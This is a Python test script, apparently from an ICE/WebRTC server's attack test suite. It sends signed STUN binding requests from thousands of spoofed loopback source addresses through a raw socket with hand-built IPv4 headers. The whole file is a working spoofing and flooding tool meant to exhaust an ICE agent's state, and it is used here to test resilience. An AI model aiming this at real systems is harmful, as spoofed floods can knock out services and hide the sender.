#!/usr/bin/env python3
"""STUN spray for tests/attack/4-stun-spray: signed ICE binding requests
(USERNAME "<ufrag>:spray", PRIORITY, ICE-CONTROLLING, MESSAGE-INTEGRITY,
FINGERPRINT) from SOURCES different loopback source addresses, one per
source and target. A raw socket writes the IPv4 header itself, so one
process can speak from 127.1.0.1 .. 127.1.65.250 without 16,400 sockets.
Needs CAP_NET_RAW (root in the test's network namespace).

    spray.py SOURCES '[{"ip": "127.0.0.1", "port": 40000, "ufrag": "...", "pwd": "..."}]'

Prints one JSON line: {"sent": N, "errors": N, "secs": S}.
"""
import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import time
import zlib

COOKIE = 0x2112A442


def attr(kind, value):
    pad = (4 - len(value) % 4) % 4
    return struct.pack("!HH", kind, len(value)) + value + b"\0" * pad


def binding_request(ufrag, pwd):
    txid = os.urandom(12)
    attrs = (
        attr(0x0006, f"{ufrag}:spray".encode())
        + attr(0x0024, struct.pack("!I", 0x6E0001FF))
        + attr(0x802A, os.urandom(8))
    )
    header = lambda n: struct.pack("!HHI", 0x0001, n, COOKIE) + txid
    mac = hmac.new(pwd.encode(), header(len(attrs) + 24) + attrs, hashlib.sha1).digest()
    attrs += attr(0x0008, mac)
    crc = (zlib.crc32(header(len(attrs) + 8) + attrs) ^ 0x5354554E) & 0xFFFFFFFF
    attrs += attr(0x8028, struct.pack("!I", crc))
    return header(len(attrs)) + attrs


def source(i):
    return f"127.1.{i // 250}.{i % 250 + 1}"


def main():
    sources = int(sys.argv[1])
    targets = json.loads(sys.argv[2])
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = errors = 0
    t0 = time.monotonic()
    for i in range(sources):
        src = socket.inet_aton(source(i))
        sport = 10000 + i % 50000
        for t in targets:
            payload = binding_request(t["ufrag"], t["pwd"])
            udp = struct.pack("!HHHH", sport, t["port"], 8 + len(payload), 0) + payload
            ip = struct.pack(
                "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, socket.IPPROTO_UDP, 0,
                src, socket.inet_aton(t["ip"]),
            )
            try:
                sock.sendto(ip + udp, (t["ip"], 0))
                sent += 1
            except OSError:
                errors += 1
        # About 20,000 packets a second: the attack is the addresses, not the rate.
        if i % 200 == 199:
            time.sleep(0.01 * len(targets))
    print(json.dumps({"sent": sent, "errors": errors, "secs": round(time.monotonic() - t0, 3)}))


if __name__ == "__main__":
    main()
